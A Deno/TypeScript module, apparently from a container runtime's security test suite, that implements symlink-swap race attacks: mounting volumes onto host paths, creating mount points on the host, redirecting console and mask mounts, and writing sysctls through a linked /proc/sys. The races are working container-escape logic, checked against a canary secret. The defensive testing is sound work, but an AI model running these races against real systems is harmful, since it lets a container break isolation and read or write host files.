/** Attacks by a process that has a file or a directory and a link change places all the time. @module */
import { AT_FDCWD, S_IFCHR } from "../../runtime/linux/generated/constants.ts";
import { cString, syscall } from "../../runtime/linux/libc.ts";
import type { Mount } from "../../runtime/spec/config.ts";
import { SECRET } from "./canary.ts";
import { startSwapping } from "./swapping.ts";
import type { Target } from "./target.ts";

const PROC: Mount = { destination: "/proc", type: "proc", source: "proc" };

/** Tries until something is reached. */
async function race(
  target: Target,
  path: string,
  attempt: (round: number) => Promise<string | undefined>,
): Promise<string | undefined> {
  const swapping = await startSwapping(path, `${path}-link`);
  try {
    for (let round = 0; round < target.rounds; round++) {
      const reached = await attempt(round);
      if (reached !== undefined) return `${reached}, in round ${round + 1}`;
    }
  } finally {
    swapping.kill("SIGKILL");
    await swapping.status;
  }
}

/**
 * As it was done in Kubernetes: the first volume is mounted, by the link, on the host's path of the second, which so becomes
 * a link of the first.
 */
export function mountsElsewhere(target: Target): Promise<string | undefined> {
  const treasure = target.treasure();
  const volumes = `${target.box.directory}/volumes`;
  for (const name of ["first", "second/sub"]) Deno.mkdirSync(`${volumes}/${name}`, { recursive: true });
  Deno.symlinkSync(treasure, `${volumes}/first/sub`);
  const bind = (source: string, destination: string): Mount => ({
    destination,
    type: "bind",
    source: `${volumes}/${source}`,
    options: ["bind"],
  });
  const { path, rootfs } = target.bundle({
    config: {
      mounts: [PROC, bind("first", "/data/second"), bind("second/sub", "/loot")],
      linux: { maskedPaths: [], readonlyPaths: [] },
    },
    script: "cat /loot/secret",
    image(rootfs) {
      Deno.mkdirSync(`${rootfs}/loot`);
      Deno.mkdirSync(`${rootfs}/data/second`, { recursive: true });
      Deno.symlinkSync("../".repeat(30) + volumes.slice(1), `${rootfs}/data-link`);
    },
  });
  return race(target, `${rootfs}/data`, async () => {
    const { stdout } = await target.run(path);
    return stdout.includes(SECRET.trim()) ? "a file of the host was read" : undefined;
  });
}

/** Mount points that are missing are made, each time others. */
export function createsOnHost(target: Target): Promise<string | undefined> {
  const treasure = target.treasure();
  const source = `${target.box.directory}/source`;
  Deno.mkdirSync(source);
  const { path, rootfs } = target.bundle({
    config: { mounts: [PROC], linux: { maskedPaths: [], readonlyPaths: [] } },
    args: ["true"],
    image(rootfs) {
      Deno.mkdirSync(`${rootfs}/data`);
      Deno.symlinkSync("../".repeat(30) + treasure.slice(1), `${rootfs}/data-link`);
    },
  });
  const config = JSON.parse(Deno.readTextFileSync(`${path}/config.json`));
  return race(target, `${rootfs}/data`, async (round) => {
    const mount = { destination: `/data/a${round}/b/c/d`, type: "bind", source, options: ["bind"] };
    Deno.writeTextFileSync(`${path}/config.json`, JSON.stringify({ ...config, mounts: [PROC, mount] }));
    await target.run(path);
    const found = [...Deno.readDirSync(treasure)].map(({ name }) => name).filter((name) => name !== "secret");
    return found.length === 0 ? undefined : `made on the host: ${found.join(", ")}`;
  });
}

/** A volume over /dev, whose console is now a file and now a link to a file of the image. */
export function consoleRace(target: Target): Promise<string | undefined> {
  const dev = `${target.box.directory}/dev`;
  Deno.mkdirSync(`${dev}/pts`, { recursive: true });
  Deno.writeTextFileSync(`${dev}/console`, "");
  Deno.symlinkSync("/victim", `${dev}/console-link`);
  makeNull(`${dev}/null`);
  Deno.symlinkSync("pts/ptmx", `${dev}/ptmx`);
  const devpts: Mount = {
    destination: "/dev/pts",
    type: "devpts",
    source: "devpts",
    options: ["newinstance", "ptmxmode=0666", "mode=0620"],
  };
  const { path } = target.bundle({
    config: {
      process: { terminal: true },
      mounts: [PROC, { destination: "/dev", type: "bind", source: dev, options: ["bind"] }, devpts],
      linux: { maskedPaths: [], readonlyPaths: [] },
    },
    script: "test -c /victim && echo mounted-on-victim",
    image: (rootfs) => Deno.writeTextFileSync(`${rootfs}/victim`, ""),
  });
  const under = ["sh", "-c", 'exec script -qec "$*" /dev/null', "sh"];
  return race(target, `${dev}/console`, async () => {
    const { stdout } = await target.run(path, { under });
    return stdout.includes("mounted-on-victim") ? "the terminal is mounted where the link leads" : undefined;
  });
}

/** The same with what masks files: now /dev/null, now a link to a file that the image can write to. */
export function maskRace(target: Target): Promise<string | undefined> {
  const dev = `${target.box.directory}/dev`;
  Deno.mkdirSync(dev);
  makeNull(`${dev}/null`);
  Deno.symlinkSync("/other", `${dev}/null-link`);
  const { path } = target.bundle({
    config: {
      mounts: [PROC, { destination: "/dev", type: "bind", source: dev, options: ["bind"] }],
      linux: { maskedPaths: ["/masked"], readonlyPaths: [] },
    },
    script: "cat /masked",
    image(rootfs) {
      Deno.writeTextFileSync(`${rootfs}/masked`, "masked\n");
      Deno.writeTextFileSync(`${rootfs}/other`, "other\n");
    },
  });
  return race(target, `${dev}/null`, async () => {
    const { stdout } = await target.run(path);
    return stdout === "" ? undefined : `the masked file is ${JSON.stringify(stdout)}`;
  });
}

/** And with a file of /proc/sys, over which a volume is mounted by a link. */
export function writesRace(target: Target): Promise<string | undefined> {
  const volume = `${target.box.directory}/fake-sys`;
  Deno.mkdirSync(`${volume}/kernel`, { recursive: true });
  Deno.writeTextFileSync(`${volume}/kernel/domainname`, "");
  Deno.symlinkSync("/victim", `${volume}/kernel/domainname-link`);
  const { path, rootfs } = target.bundle({
    config: {
      mounts: [PROC, { destination: "/volume", type: "bind", source: volume, options: ["bind"] }],
      linux: { sysctl: { "kernel.domainname": "evil" }, maskedPaths: [], readonlyPaths: [] },
    },
    args: ["true"],
    image(rootfs) {
      Deno.symlinkSync("/proc/sys", `${rootfs}/volume`);
      Deno.writeTextFileSync(`${rootfs}/victim`, "");
    },
  });
  return race(target, `${volume}/kernel/domainname`, async () => {
    await target.run(path);
    const written = Deno.readTextFileSync(`${rootfs}/victim`);
    return written === "" ? undefined : `${JSON.stringify(written)} was written elsewhere`;
  });
}

/** A device like /dev/null: makedev(1, 3). */
function makeNull(path: string): void {
  syscall("mknodat", [AT_FDCWD, cString(path), S_IFCHR | 0o666, 0x103]);
}
